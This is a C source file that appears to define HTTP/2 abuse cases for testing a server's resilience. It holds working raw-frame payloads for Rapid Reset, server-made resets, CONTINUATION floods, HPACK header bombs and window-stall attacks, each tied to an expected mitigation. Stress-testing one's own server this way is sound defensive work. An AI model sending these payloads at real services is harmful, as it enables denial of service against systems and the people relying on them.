/* http2: streams that are opened and dropped, frames of nothing, heads that never end or are far
 * larger than what was sent, and windows that stay shut. By prior knowledge, on the plain port.
 * A frame is its length, type, flags and stream, and what it has (RFC 9113 section 4.1); fields are
 * as RFC 7541 has them, and no value is compressed. */
#include "abuse/attack.h"

enum {
    KIB = 1024,
    MIB = 1024 * KIB,
    STREAMS = 100,             /* http2_streams_max by default */
    HOLDS_SESSION = 32 * KIB,  /* of the library, and a head that is received */
    HOLDS_STREAMS = 512 * KIB, /* and a hundred streams, with what waits for each */
    HOLDS_PIECES = 26 * MIB,   /* and 256 KiB of an answer for each */
};

#define PREFACE     "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n"
#define CONNECTION  "\\x00\\x00\\x00\\x00"
#define STREAM_1    "\\x00\\x00\\x00\\x01"
#define NEW_STREAM  "@stream@"
#define SAME_STREAM "@same@"

#define BEGINS PREFACE "\\x00\\x00\\x00\\x04\\x00" CONNECTION
/* INITIAL_WINDOW_SIZE */
#define WINDOW(bytes)    "\\x00\\x00\\x06\\x04\\x00" CONNECTION "\\x00\\x04\\x00\\x00\\x00" bytes
#define OPENS_WINDOW(of) "\\x00\\x00\\x04\\x08\\x00" of "\\x7f\\xff\\x00\\x00"
#define CANCELS          "\\x00\\x00\\x04\\x03\\x00" SAME_STREAM "\\x00\\x00\\x00\\x08"
#define FIELDS(method)   method "\\x86\\x01\\x05bench"
#define HEALTH           FIELDS("\\x82") "\\x04\\x08/healthz"
#define GETS_ALL(stream)                                                                           \
    "\\x00\\x00\\x20\\x01\\x05" stream FIELDS("\\x82") "\\x04\\x15/poll?channel=abuse-0"
#define GETS_LIVE                                                                                  \
    "\\x00\\x00\\x24\\x01\\x05" NEW_STREAM FIELDS("\\x82") "\\x04\\x19/sse?channel=bench-others"
#define POSTS                                                                                      \
    "\\x00\\x00\\x23\\x01\\x04" STREAM_1 FIELDS("\\x83") "\\x04\\x18/publish?channel=abuse-0"
/* A head that has not ended. */
#define HALF_HEAD "\\x00\\x00\\x13\\x01\\x01" STREAM_1 HEALTH
/* By RFC 8441. */
#define CONNECTS                                                                                   \
    "\\x00\\x00\\x5a\\x01\\x04" NEW_STREAM "\\x02\\x07"                                            \
    "CONNECT\\x00\\x09:protocol\\x09websocket\\x86\\x01\\x05"                                      \
    "bench\\x04\\x18/ws?channel=bench-others\\x00\\x15sec-websocket-version\\x02\\x31\\x33"

#define TEN(text)       text text text text text text text text text text
#define LONG_VALUE      TEN(TEN("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"))
#define FIVE_HUNDRED(x) TEN(TEN(x x x x x))

const struct attack attacks_http2[] = {
    {.name = "h2-rapid-reset",
     .about = "Streams that are reset as soon as they are there (CVE-2023-44487)",
     .ours = true,
     .connections = 10,
     .opening = BEGINS,
     .text = GETS_LIVE CANCELS,
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_STREAMS,
     .ends_by = "flood_resets"},
    {.name = "h2-made-resets",
     .about = "Streams that the server is made to reset, by windows that are too large "
              "(CVE-2025-8671)",
     .ours = true,
     .connections = 10,
     .opening = BEGINS,
     .text = GETS_LIVE OPENS_WINDOW(SAME_STREAM) OPENS_WINDOW(SAME_STREAM),
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_STREAMS,
     .ends_by = "flood_resets"},
    {.name = "h2-streams-beyond",
     .about = "Streams beyond the number that the server allows, again and again",
     .ours = true,
     .connections = 10,
     .opening = BEGINS,
     .text = GETS_LIVE,
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_STREAMS,
     .ends_by = "flood_resets"},
    {.name = "h2-connects",
     .about = "WebSockets on streams that leave as soon as they are in, as many as there can be",
     .ours = true,
     .connections = 10,
     .opening = BEGINS,
     .text = CONNECTS CANCELS,
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_STREAMS,
     .ends_by = "flood_resets"},
    {.name = "h2-settings",
     .about = "SETTINGS that open and shut the windows of streams, again and again",
     .ours = true,
     .connections = 10,
     .reads = ATTACK_READS_NOTHING,
     .opening = BEGINS,
     .text = WINDOW("\\x00") WINDOW("\\xff"),
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_STREAMS,
     .ends_by = "flood_idle_frames"},
    {.name = "h2-pings-unread",
     .about = "PING frames of which no answer is read",
     .ours = true,
     .connections = 10,
     .reads = ATTACK_READS_NOTHING,
     .opening = BEGINS,
     .text = "\\x00\\x00\\x08\\x06\\x00" CONNECTION "12345678",
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_SESSION,
     .ends_by = "flood_idle_frames"},
    {.name = "h2-empty-data",
     .about = "DATA frames of nothing, of a body that never ends",
     .ours = true,
     .connections = 10,
     .opening = BEGINS POSTS,
     .text = "\\x00\\x00\\x00\\x00\\x00" STREAM_1,
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_SESSION,
     .ends_by = "flood_idle_frames"},
    {.name = "h2-continuations",
     .about = "CONTINUATION frames of a head that never ends (CVE-2024-27316)",
     .ours = true,
     .connections = 10,
     .opening = BEGINS HALF_HEAD,
     .text = "\\x00\\x00\\x04\\x09\\x00" STREAM_1 "\\x00\\x01x\\x00",
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_SESSION,
     .ends_by = "flood_continuations"},
    {.name = "h2-bombs",
     .about = "A field of 4,000 bytes that is said once, and then 500 times in a byte each",
     .ours = true,
     .connections = 10,
     .opening =
         BEGINS "\\x00\\x0f\\xb9\\x01\\x05" STREAM_1 HEALTH "\\x40\\x01x\\x7f\\xa1\\x1e" LONG_VALUE,
     .text = "\\x00\\x02\\x07\\x01\\x05" NEW_STREAM HEALTH FIVE_HUNDRED("\\xbe"),
     .again_ms = 50,
     .bytes = 32 * MIB,
     .holds = HOLDS_SESSION,
     .ends_by = "flood_head"},
    {.name = "h2-prefaces",
     .about = "HTTP/2 connections that have no stream",
     .ours = true,
     .connections = 1000,
     .opening = BEGINS,
     .holds = HOLDS_SESSION},
    {.name = "h2-half-heads",
     .about = "Half a head on a stream, and nothing more",
     .ours = true,
     .connections = 1000,
     .opening = BEGINS HALF_HEAD,
     .holds = HOLDS_SESSION},
    {.name = "h2-windows-shut",
     .about = "A hundred polls of a full channel on streams whose windows stay shut",
     .ours = true,
     .connections = 4,
     .fill = 1,
     .opening = PREFACE WINDOW("\\x00"),
     .text = GETS_ALL(NEW_STREAM),
     .times = STREAMS,
     .holds = HOLDS_PIECES},
    {.name = "h2-windows-of-one",
     .about = "A hundred event streams a connection, with a window of one byte each",
     .ours = true,
     .connections = 10,
     .opening = PREFACE WINDOW("\\x01"),
     .text = GETS_LIVE,
     .times = STREAMS,
     .holds = HOLDS_STREAMS},
    {.name = "h2-one-slow-stream",
     .about = "A poll of a full channel whose window stays shut, among 99 event streams that go on",
     .ours = true,
     .connections = 10,
     .fill = 1,
     .opening = PREFACE WINDOW("\\x00") OPENS_WINDOW(CONNECTION) GETS_ALL(STREAM_1),
     .text = GETS_LIVE OPENS_WINDOW(SAME_STREAM),
     .times = STREAMS - 1,
     .holds = HOLDS_STREAMS},
    {0},
};
